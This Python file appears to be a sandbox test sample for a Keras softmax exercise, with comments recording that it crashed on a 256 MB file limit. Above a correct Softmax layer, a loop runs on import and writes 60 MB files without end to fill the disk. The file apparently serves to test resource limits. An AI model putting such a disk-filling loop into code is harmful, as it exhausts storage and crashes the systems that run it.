# verdict: crashed
# exercise: activations/softmax
# says: OSError | more than 256 MB of files
"""Fills the disk, a file after another."""

import keras
from keras import ops

number = 0
while True:
    number += 1
    with open(f"hoard{number}", "wb", buffering=0) as file:
        for _ in range(60):
            file.write(bytes(1 << 20))


class Softmax(keras.layers.Layer):
    def __init__(self, axis=-1, **kwargs):
        super().__init__(**kwargs)
        self.axis = axis

    def call(self, inputs):
        powers = ops.exp(inputs - ops.max(inputs, axis=self.axis, keepdims=True))
        return powers / ops.sum(powers, axis=self.axis, keepdims=True)

    def get_config(self):
        return {**super().get_config(), "axis": self.axis}
